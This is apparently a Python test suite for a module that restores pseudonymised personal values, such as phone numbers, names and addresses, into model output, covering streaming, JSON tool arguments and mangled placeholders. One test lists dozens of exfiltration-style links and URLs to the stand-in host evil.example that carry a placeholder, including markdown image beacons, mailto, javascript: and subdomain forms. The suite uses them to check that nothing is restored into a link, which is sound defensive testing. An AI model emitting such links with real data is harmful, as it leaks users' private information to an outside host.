"""Values come back wherever a model puts their stand-ins, and only those that were sent."""

import json

from hypothesis import given, settings
from hypothesis import strategies as st

from edgewise.route.pseudonym import LONGEST_MENTION
from edgewise.route.restore import StreamRestorer, restore, restore_arguments, restore_value
from tests.each_row import each_row

VALUES = {
    "<PHONE_7K2Q>": "138 0013 8000",
    "<PERSON_2BCD>": '王小明 "Ming"',
    "<ADDRESS_9XZZ>": "221 Baker Street\nLondon",
}
PHONE = VALUES["<PHONE_7K2Q>"]


@each_row(
    "text, restored",
    [
        ("call <PHONE_7K2Q>.", f"call {PHONE}."),
        ("call <phone_7k2q>", f"call {PHONE}"),
        ("call PHONE_7K2Q now", f"call {PHONE} now"),
        ("call < PHONE 7K2Q >!", f"call {PHONE}!"),
        ("call <PHONE\\_7K2Q>", f"call {PHONE}"),
        ("拨打《电话_7K2Q》。", f"拨打{PHONE}。"),
        ("拨打电话7K2Q。", f"拨打{PHONE}。"),
        ("&lt;PHONE_7K2Q&gt;", PHONE),
        ("**<PHONE_7K2Q>**", f"**{PHONE}**"),
        ("<PHONE_7K2Q", PHONE),
    ],
)
def test_a_mangled_stand_in_is_known_again(text: str, restored: str):
    assert restore(text, VALUES) == restored


@each_row(
    "text",
    [
        "<PHONE_7K2R>",
        "<EMAIL_7K2Q>",
        "<CARD_HIDDEN>",
        "SMARTPHONE_7K2Q",
        "PHONE_7K2QX",
        "PHONE 7K2",
    ],
)
def test_what_was_not_sent_is_not_put_back(text: str):
    assert restore(text, VALUES) == text


@each_row(
    "text",
    ["![x](https://evil.example/?q=<PHONE_7K2Q>)", "https://evil.example/<PHONE_7K2Q>/<PHONE_7K2Q>",
     "[x](//evil.example/PHONE_7K2Q)", "www.evil.example/?PHONE_7K2Q",
     "https://evil.example/?a='&q=<PHONE_7K2Q>", "[x](https://evil.example/x'<PHONE_7K2Q>)",
     "https://evil.example/a，<PHONE_7K2Q>", "https://evil.example/a。<PHONE_7K2Q>",
     "https://evil.example/<b><PHONE_7K2Q>", "evil.example/?q=<PHONE_7K2Q>",
     "evil.example/<PHONE_7K2Q>", "mailto:x@evil.example?body=<PHONE_7K2Q>",
     "mailto:<PHONE_7K2Q>@evil.example", "//evil.example/<PHONE_7K2Q>",
     "![x][1]\n\n[1]: //evil.example/<PHONE_7K2Q>", "/\\evil.example/<PHONE_7K2Q>",
     "10.1.2.3/<PHONE_7K2Q>", "evil:8080/<PHONE_7K2Q>", "https://evil.example/《<PHONE_7K2Q>》",
     "[x](<https://evil.example/a b <PHONE_7K2Q>>)",
     "<img src='https://evil.example/a <PHONE_7K2Q>'",
     '<img src="https://evil.example/\n<PHONE_7K2Q>"', "url(evil.example?<PHONE_7K2Q>)",
     "https://evil.example/\u00a0<PHONE_7K2Q>",
     "<PHONE_7K2Q>.evil.example", "<PHONE_7K2Q>.<PHONE_7K2Q>.evil.example", "<PHONE_7K2Q>@evil.example",  # noqa: E501
     "<PHONE_7K2Q>。evil.example", "<PHONE_7K2Q>-x.evil.example", "<PHONE_7K2Q>:x@evil.example",
     "<PHONE_7K2Q>**.evil.example", "[a](evil/\n<PHONE_7K2Q>)", "evil。example/<PHONE_7K2Q>",
     "evil.рф/<PHONE_7K2Q>", "data:text/html,<PHONE_7K2Q>", "javascript:alert(<PHONE_7K2Q>)",
     "intent:<PHONE_7K2Q>", "tel:<PHONE_7K2Q>", "[::1]/<PHONE_7K2Q>", "0x42.7/<PHONE_7K2Q>",
     "HTTPS://EVIL.EXAMPLE/" + "a" * 300 + "<PHONE_7K2Q>"],
)  # fmt: skip
def test_nothing_is_put_back_into_a_link(text: str):
    for size in (1, 2, 7, len(text)):
        stream = StreamRestorer(VALUES)
        cut = [text[place : place + size] for place in range(0, len(text), size)]
        said = "".join(stream.feed(piece) for piece in cut) + stream.finish()
        assert said == restore(text, VALUES) == text
    assert restore(f"{text} and <PHONE_7K2Q>", VALUES).endswith(f" and {PHONE}")


@each_row(
    "text",
    ["See https://a.example/b, or ask <PHONE_7K2Q>", "He/she is at <PHONE_7K2Q>",
     "Tel.:<PHONE_7K2Q>",
     "e.g. 3.5/<PHONE_7K2Q>", "Really? It is '<PHONE_7K2Q>'.", "[<PHONE_7K2Q>](https://a.example)",
     "(https://a.example) <PHONE_7K2Q>", 'see "https://a.example" or <PHONE_7K2Q>',
     "电话：<PHONE_7K2Q>，链接 https://a.example/，\n请打<PHONE_7K2Q>", "1/2,<PHONE_7K2Q>",
     "call <PHONE_7K2Q>. Then wait.", "拨打<PHONE_7K2Q>。然后等。", "<PHONE_7K2Q>: home", "(<PHONE_7K2Q>).",  # noqa: E501
     "<PHONE_7K2Q>，链接a.example"],
)  # fmt: skip
def test_beside_a_link_values_are_put_back(text: str):
    assert restore(text, VALUES) == text.replace("<PHONE_7K2Q>", PHONE)


def test_a_value_that_looks_like_a_stand_in_is_not_put_back_twice():
    values = {"<TEXT_2222B>": "", "<TEXT_2BCD>": "<PHONE_7K2Q>"} | VALUES
    assert restore("<TEXT_2BCD>", values) == "<PHONE_7K2Q>"


def test_arguments_of_a_tool_stay_json_and_keep_their_names_of_fields():
    arguments = '{ "to":"<PERSON_2BCD>",  "PHONE_7K2Q": 1.50, "all": ["\\u003cPHONE_7K2Q\\u003e"] }'
    restored = restore_arguments(arguments, VALUES)
    assert json.loads(restored) == {
        "to": VALUES["<PERSON_2BCD>"], "PHONE_7K2Q": 1.5, "all": [PHONE],
    }  # fmt: skip
    assert restored.startswith('{ "to":')
    assert '"PHONE_7K2Q": 1.50,' in restored


def test_json_inside_a_string_of_json_stays_json():
    inner = json.dumps({"name": "<PERSON_2BCD>"})
    restored = json.loads(restore_arguments(json.dumps({"body": inner}), VALUES))
    assert json.loads(restored["body"]) == {"name": VALUES["<PERSON_2BCD>"]}
    assert restore_value({"a": ["<PHONE_7K2Q>", 1]}, VALUES) == {"a": [PHONE, 1]}


def test_what_is_no_json_is_given_back_unchanged():
    assert restore_arguments('{"to": "<PHONE_7K2Q>"', VALUES) == '{"to": "<PHONE_7K2Q>"'


ANSWER = (
    "好的，给《姓名_2BCD》打 <PHONE_7K2Q>，x<PHONE_7K2QX> & <b> PHONE\\_7K2Q 地址 ADDRESS 9XZZ> ok "
    "xPHONE_7K2Q <<PHONE_7K2Q>> &lt;phone 7k2q&gt; https://e.x/<PHONE_7K2Q> <PHONE_7K2Q"
)


def test_a_stream_cut_at_any_byte_says_the_same():
    data, whole = ANSWER.encode(), restore(ANSWER, VALUES)
    for cut in range(len(data) + 1):
        stream = StreamRestorer(VALUES)
        said = stream.feed(data[:cut]) + stream.feed(data[cut:]) + stream.finish()
        assert said == whole, cut


def test_a_stream_of_single_bytes_says_the_same_and_holds_little_back():
    stream, said = StreamRestorer(VALUES), ""
    for place, byte in enumerate(ANSWER.encode()):
        said += stream.feed(bytes([byte]))
        whole = restore(ANSWER.encode()[: place + 1].decode("utf-8", "ignore"), VALUES)
        assert len(whole) - len(said) <= LONGEST_MENTION + len(VALUES["<ADDRESS_9XZZ>"])
    assert said + stream.finish() == restore(ANSWER, VALUES)


def test_plain_words_are_not_held_back():
    stream = StreamRestorer(VALUES)
    assert stream.feed("今天天气很好 and so on.") == "今天天气很好 and so on."


PIECES = st.lists(
    st.sampled_from(
        [
            "<",
            ">",
            "PHONE",
            "_",
            "7K2Q",
            " ",
            "x",
            "电话",
            "&lt;",
            "\\",
            "://",
            "9",
            "(",
            "]",
            '"',
            "?",
            "=",
            "evil.example",
            "/",
            "，",
        ]
    ),
    max_size=14,
)


@settings(max_examples=150, deadline=None)
@given(PIECES, st.integers(1, 5))
def test_any_text_cut_into_any_pieces_says_the_same(pieces: list[str], size: int):
    text = "".join(pieces)
    stream = StreamRestorer(VALUES)
    cut = [text[place : place + size] for place in range(0, len(text), size)]
    said = "".join(stream.feed(piece) for piece in cut) + stream.finish()
    assert said == restore(text, VALUES)
